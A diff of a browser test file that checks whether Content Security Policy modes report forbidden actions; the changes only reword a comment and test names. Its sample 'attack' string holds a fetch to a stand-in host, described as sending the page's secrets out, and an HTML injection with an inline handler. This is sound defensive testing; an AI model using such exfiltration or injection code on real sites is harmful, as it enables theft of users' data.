@@ -19,7 +19,7 @@ afterAll(async () => {
   await system.deploy();
 });
 
-/** Actions that an attacker wants from the page: send its secrets elsewhere, and run a script of the attacker's. */
+/** Two actions of an attacker in the page: send its secrets to another server, and run a script. */
 const attack = `
   fetch("https://elsewhere.test/").catch(() => undefined);
   document.body.insertAdjacentHTML("beforeend", '<b onclick="0">injected</b>')`;
@@ -33,7 +33,7 @@ describe.each([
     await system.deploy(tag, system.otherCheckout({ "site.contentSecurityPolicy": mode }));
   });
 
-  test("works in a browser, all of it, and nothing is reported", async () => {
+  test("works completely in a browser, and the browser reports nothing", async () => {
     const { page, violations, errors } = await visit(browser, `https://${system.world.domain}/`);
     await expect.poll(() => page.locator("dd").allTextContents(), patiently).toEqual(Array(5).fill("works"));
     const look = `[getComputedStyle(document.querySelector("h1")).color, getComputedStyle(document.body).fontFamily]`;
@@ -43,7 +43,7 @@ describe.each([
     await page.context().close();
   });
 
-  test("what the mode forbids is reported", async () => {
+  test("the browser reports each action that the mode forbids", async () => {
     const { page, violations } = await visit(browser, `https://${system.world.domain}/`);
     await page.evaluate(attack);
     await expect.poll(() => violations.toSorted(), patiently).toEqual(forbidden);
